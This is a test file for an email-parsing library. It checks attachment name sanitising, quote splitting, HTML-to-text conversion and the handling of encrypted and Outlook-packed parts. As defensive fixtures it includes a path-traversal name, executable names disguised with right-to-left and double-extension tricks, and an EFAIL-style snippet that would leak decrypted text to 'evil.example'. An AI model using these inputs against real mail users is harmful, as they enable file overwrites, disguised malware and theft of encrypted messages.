import { readFileSync } from 'node:fs'
import { describe, expect, it } from 'vitest'
import {
  htmlToText,
  inlineImageUri,
  limits,
  parseMessage,
  partBytes,
  readContent,
  sanitizeFileName,
  snippetOf,
  splitQuote,
  type Content,
  type MessageTree,
} from './index.ts'

function read(text: string): { tree: MessageTree; content: Content } {
  const parsed = parseMessage(Buffer.from(text.replace(/\n/g, '\r\n')))
  if (!parsed.ok) throw new Error(parsed.error.code)
  return { tree: parsed.value, content: readContent(parsed.value) }
}

describe('file names', () => {
  it.each([
    ['report.pdf', 'report.pdf', []],
    ['../../etc/passwd', 'passwd', ['path']],
    ['C:\\Users\\x\\a.pdf', 'a.pdf', ['path']],
    ['\\\\server\\share\\a.pdf', 'a.pdf', ['path']],
    ['a/../b.pdf', 'b.pdf', ['path']],
    ['..', 'fallback.bin', ['missing']],
    ['a.pdf:stream', 'a.pdf_stream', []],
    ['report\u202efdp.exe', 'reportfdp.exe', ['bidi', 'executable']],
    ['in\u200bvoice.pdf', 'invoice.pdf', ['bidi']],
    ['a\0.pdf', 'a.pdf', ['control']],
    ['a\r\nb.pdf', 'a b.pdf', ['control']],
    ['con', '_con', ['reserved']],
    ['NUL.txt', '_NUL.txt', ['reserved']],
    ['com1.tar.gz', '_com1.tar.gz', ['reserved']],
    ['LPT¹', '_LPT¹', ['reserved']],
    ['console.txt', 'console.txt', []],
    ['invoice.pdf.exe', 'invoice.pdf.exe', ['double-extension', 'executable']],
    ['photo.jpg      .scr', 'photo.jpg .scr', ['double-extension', 'executable']],
    ['photo.jpg.lnk', 'photo.jpg.lnk', ['double-extension', 'executable']],
    ['backup.tar.gz', 'backup.tar.gz', []],
    ['letter.docm', 'letter.docm', ['executable']],
    ['page.HTML', 'page.HTML', ['executable']],
    ['setup.exe.', 'setup.exe', ['executable']],
    ['.bashrc', 'bashrc', []],
    ['  spaced.pdf  ', 'spaced.pdf', []],
    [`${'x'.repeat(300)}.pdf`, `${'x'.repeat(176)}.pdf`, ['shortened']],
    ['Befund Ä.pdf', 'Befund Ä.pdf', []],
    ['', 'fallback.bin', ['missing']],
    [null, 'fallback.bin', ['missing']],
  ])('%j', (suggested, fileName, flags) => {
    expect(sanitizeFileName(suggested, 'fallback.bin')).toEqual({ fileName, flags })
  })
})

describe('quotes and signatures', () => {
  it.each([
    ['plain', 'Hello\n\nMaria', { newText: 'Hello\n\nMaria', quoted: null, signature: null }],
    [
      'marked',
      'Yes\n\nOn Mon, 1 Jan 2026, E. R. wrote:\n> a\n> b\n',
      { newText: 'Yes', quoted: 'On Mon, 1 Jan 2026, E. R. wrote:\n> a\n> b', signature: null },
    ],
    [
      'wrapped attribution',
      'Yes\n\nOn Thu, 19 Nov 2026 at 10:00, Dr. Elena Rivera\n<r@practice.example> wrote:\n> a',
      {
        newText: 'Yes',
        quoted: 'On Thu, 19 Nov 2026 at 10:00, Dr. Elena Rivera\n<r@practice.example> wrote:\n> a',
        signature: null,
      },
    ],
    [
      'German',
      'Ja\n\nAm 19.11.2026 um 10:00 schrieb Elena Rivera:\n> a',
      { newText: 'Ja', quoted: 'Am 19.11.2026 um 10:00 schrieb Elena Rivera:\n> a', signature: null },
    ],
    [
      'Outlook',
      'Yes\n\nFrom: Elena Rivera\nSent: Thursday\nTo: Maria\nSubject: x\n\nold text',
      {
        newText: 'Yes',
        quoted: 'From: Elena Rivera\nSent: Thursday\nTo: Maria\nSubject: x\n\nold text',
        signature: null,
      },
    ],
    [
      'separator',
      'Yes\n-----Original Message-----\nold',
      { newText: 'Yes', quoted: '-----Original Message-----\nold', signature: null },
    ],
    ['signature', 'Yes\n-- \nMaria\nPhone', { newText: 'Yes', quoted: null, signature: 'Maria\nPhone' }],
    ['signature above quote', 'Yes\n-- \nM\n\n> old', { newText: 'Yes', quoted: '> old', signature: 'M' }],
    [
      'answers between the lines',
      '> question\nanswer\n> other\nlast',
      { newText: '> question\nanswer\n> other\nlast', quoted: null, signature: null },
    ],
    [
      'a sentence like an attribution',
      'On Monday he wrote:\nhello',
      { newText: 'On Monday he wrote:\nhello', quoted: null, signature: null },
    ],
    [
      'a line that begins with From',
      'From: the heart\nI mean it',
      { newText: 'From: the heart\nI mean it', quoted: null, signature: null },
    ],
    ['quote alone', '> only', { newText: '', quoted: '> only', signature: null }],
    ['empty', '', { newText: '', quoted: null, signature: null }],
  ])('%s', (_, text, expected) => {
    expect(splitQuote(text)).toEqual(expected)
    expect(splitQuote(text.replace(/\n/g, '\r\n'))).toEqual(expected)
  })
})

describe('snippets', () => {
  it.each([
    ['Hello\n\n  world  ', 'Hello world'],
    ['> quoted\n> more\nNew words', 'New words'],
    ['> only quoted', '> only quoted'],
    ['a\u200c\u00a0\u034f \u200c b', 'a b'],
    ['👩‍👩‍👧 family', '👩‍👩‍👧 family'],
    ['', ''],
  ])('%j', (text, expected) => {
    expect(snippetOf(text)).toBe(expected)
  })

  it('is cut at a word', () => {
    expect(snippetOf('word '.repeat(100), 30)).toBe('word word word word word…')
  })
})

describe('HTML as text', () => {
  it.each([
    ['<p>a</p><p>b<br>c</p>', 'a\n\nb\nc'],
    ['a   b\n c', 'a b c'],
    ['<b>a</b><i>b</i> <u>c</u>', 'ab c'],
    ['<ul><li>x</li><li>y<ol><li>z</li></ol></li></ul>', '- x\n- y\n1. z'],
    ['<blockquote>q<blockquote>r</blockquote></blockquote>', '> q\n>\n>> r'],
    ['<table><tr><td>a</td><td>b</td></tr><tr><td>c</td></tr></table>', 'a  b\nc'],
    ['<a href="https://x.example/a">https://x.example/a</a>', 'https://x.example/a'],
    ['<a href="https://x.example/a">here</a>', 'here <https://x.example/a>'],
    ['<a href="javascript:x">here</a>', 'here'],
    ['<style>p{}</style><script>x</script><title>t</title>shown', 'shown'],
    ['<img alt="a chart" src=x>', 'a chart'],
    ['<pre>a\n  b</pre>', 'a\n  b'],
    ['&lt;b&gt; &amp; &nbsp;x', '<b> & \u00a0x'],
    ['<div><div><div>deep</div></div></div>', 'deep'],
    ['unclosed <b>bold <p>para', 'unclosed bold\n\npara'],
    ['', ''],
  ])('%s', (html, expected) => {
    expect(htmlToText(html)).toBe(expected)
  })

  it('over the limits keeps the words', () => {
    expect(htmlToText(`<p>word</p>${'<div>'.repeat(100_000)}end`)).toBe('word end')
  })
})

describe('body and files', () => {
  const image =
    'Content-Type: image/png\nContent-ID: <a@b>\nContent-Transfer-Encoding: base64\n\niVBORw0KGgo=\n'

  it('an inline image is found by its id and told apart from a file', () => {
    const { tree, content } = read(
      `Content-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n<img src="cid:a%40b">\n--b\n${image}--b\n${image.replace('a@b', 'c@d')}--b--\n`,
    )
    expect(content.attachments.map((file) => file.isInline)).toEqual([true, false])
    expect(inlineImageUri(tree, content, 'a@b')).toBe('data:image/png;base64,iVBORw0KGgo=')
    expect(inlineImageUri(tree, content, 'none')).toBeNull()
  })

  it('an SVG is never an inline image', () => {
    const { tree, content } = read(
      `Content-Type: multipart/related; boundary=b\n\n--b\nContent-Type: text/html\n\n<img src="cid:a@b">\n--b\n${image.replace('png', 'svg+xml')}--b--\n`,
    )
    expect(inlineImageUri(tree, content, 'a@b')).toBeNull()
  })

  it('the root of multipart/related may be named by start', () => {
    const { content } = read(
      `Content-Type: multipart/related; boundary=b; start="<main>"\n\n--b\n${image}--b\nContent-ID: <main>\nContent-Type: text/html\n\n<p>main</p>\n--b--\n`,
    )
    expect(content.text).toBe('main')
  })

  it('EFAIL: an encrypted part beside HTML is an inert file and its siblings stay without it', () => {
    const { content } = read(
      'Content-Type: multipart/mixed; boundary=b\n\n--b\nContent-Type: text/html\n\n<img src="https://evil.example/?\n--b\nContent-Type: multipart/encrypted; boundary=e\n\n--e\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n--e\nContent-Type: application/octet-stream\n\nCIPHERTEXT\n--e--\n--b--\n',
    )
    expect(content.attachments).toHaveLength(1)
    expect(JSON.stringify([content.text, content.html])).not.toContain('CIPHERTEXT')
  })

  it('the text of a nested message is no body text', () => {
    const { content } = read('Content-Type: message/rfc822\n\nSubject: x\n\ninner')
    expect(content).toMatchObject({
      text: null,
      attachments: [{ partPath: '1', contentType: 'message/rfc822' }],
    })
  })

  it('all body parts share one budget, and what is cut is said', () => {
    const parts = (count: number): string =>
      `Content-Type: multipart/mixed; boundary=b\n\n${`--b\n\n${'word '.repeat(20_000)}\n`.repeat(count)}`
    const few = read(parts(3)).content
    const many = read(parts(100)).content
    expect([few.isTruncated, few.text?.length]).toEqual([false, 3 * 99_999 + 4])
    expect(many.isTruncated).toBe(true)
    expect(many.text?.length).toBeLessThanOrEqual(limits.maxBodyBytes + 1_000)
  })

  it('the size of a file is that of its decoded bytes', () => {
    for (const body of ['', 'eA', 'eHk=', 'eHl6\neA==\n', 'eA==eHk=', 'e H\n l 6!!']) {
      const { tree, content } = read(
        `Content-Type: application/pdf\nContent-Transfer-Encoding: base64\n\n${body}`,
      )
      expect(content.attachments[0]?.sizeBytes, body).toBe(partBytes(tree, '1')?.length)
    }
  })

  it.each([
    ['plain', 'text/plain; hp="cipher"; hp-legacy-display=1', 'Subject: true\n\nbody', 'body'],
    [
      'plain, folded',
      'text/plain; hp="cipher"; hp-legacy-display=1',
      'Subject: true\n and more\nTo: a@b.example\n\nbody',
      'body',
    ],
    [
      'HTML',
      'text/html; hp="cipher"; hp-legacy-display=1',
      '<div class="header-protection-legacy-display"><pre>Subject: true</pre></div><p>body</p>',
      'body',
    ],
    ['without the mark', 'text/plain; hp="cipher"', 'Subject: true\n\nbody', 'Subject: true\n\nbody'],
    [
      'without header protection',
      'text/plain; hp-legacy-display=1',
      'Subject: true\n\nbody',
      'Subject: true\n\nbody',
    ],
    [
      'used to hide text',
      'text/plain; hp="clear"; hp-legacy-display=1',
      'Pay to this account\n\nbody',
      'Pay to this account\n\nbody',
    ],
    [
      'used to hide HTML',
      'text/html; hp="clear"; hp-legacy-display=1',
      '<div class="header-protection-legacy-display"><pre>Pay now</pre></div>body',
      'Pay now\n\nbody',
    ],
  ])('the copy of protected fields in the body (RFC 9788), %s', (_, type, body, expected) => {
    expect(read(`Content-Type: ${type}\n\n${body}`).content.text).toBe(expected)
  })
})

describe('files that Outlook packed', () => {
  const read = (name: string) => {
    const parsed = parseMessage(readFileSync(`test/data/mime/${name}.eml`))
    if (!parsed.ok) throw new Error(parsed.error.code)
    return { tree: parsed.value, files: readContent(parsed.value).attachments }
  }

  it('are files of the message, each with its own bytes', () => {
    const { tree, files } = read('tnef-two-files')
    const bytes = files.map(({ partPath }) => Buffer.from(partBytes(tree, partPath) ?? []).toString())
    expect(files.map(({ partPath }) => partPath)).toEqual(['1.2#0', '1.2#1'])
    expect(bytes).toEqual(['%PDF', 'note'])
    expect(partBytes(tree, '1.2#2')).toBeNull()
    expect(partBytes(tree, '1.1#0')).toBeNull()
  })

  it('keep their type, their picture in the text, and what is dangerous about their name', () => {
    expect(read('tnef-file-in-properties').files).toMatchObject([
      { contentType: 'application/pdf', sizeBytes: 8 },
    ])
    expect(read('tnef-body-html').files).toMatchObject([{ contentId: 'p1', isInline: true }])
    expect(read('tnef-hidden-path').files[0]?.fileNameFlags).toEqual(['path', 'executable'])
  })

  it('leave winmail.dat on offer where it was cut off', () => {
    expect(read('tnef-cut-off').files.map(({ partPath }) => partPath)).toEqual(['1.2', '1.2#0'])
  })
})
